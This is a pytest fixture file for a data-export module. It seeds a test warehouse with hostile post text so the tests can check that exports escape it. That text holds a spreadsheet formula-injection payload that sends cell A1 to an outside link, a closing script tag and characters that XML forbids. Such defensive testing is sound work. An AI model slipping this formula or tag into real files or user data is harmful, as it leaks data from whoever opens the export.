"""What the tests of exports share: a small warehouse with results, some of them hostile, and a way to run commands."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from narratives.exports.export import Exported, wanted, write_export
from narratives.warehouse import open_reader, open_writer
from tests.cli.conftest import cli, empty, fill, results, templates  # noqa: F401

LONG_ID = "4617239501234567890"
FORMULA = '=HYPERLINK("https://example.org?"&A1;"look")'


@pytest.fixture
def hostile(results: Path) -> Path:  # noqa: F811
    """Return a warehouse one post of which has a long id, a text that is a formula, and characters that XML forbids."""
    with open_writer(results) as cursor:
        keys = {"old": "twitter:2", "new": f"twitter:{LONG_ID}", "id": LONG_ID, "text": f"{FORMULA}\x0b 🙂 </script>"}
        cursor.execute("UPDATE raw.posts SET post_key = $new, post_id = $id, text = $text WHERE post_key = $old", keys)
        for table in ("post_texts", "narrative_evidence"):
            cursor.execute(
                f"UPDATE core.{table} SET post_key = $new WHERE post_key = $old",
                {"old": keys["old"], "new": keys["new"]},
            )
    return results


@pytest.fixture
def export(hostile: Path, tmp_path: Path) -> Callable[..., Exported]:
    """Export the warehouse into a folder of its own."""

    def run(*formats: str, folder: Path = tmp_path / "out", **options: Any) -> Exported:
        with open_reader(hostile) as connection:
            cursor = connection.execute("FROM out.runs")
            row = dict(zip([column[0] for column in cursor.description], cursor.fetchone(), strict=True))
            return write_export(connection, row, folder, wanted(formats, **options))

    return run
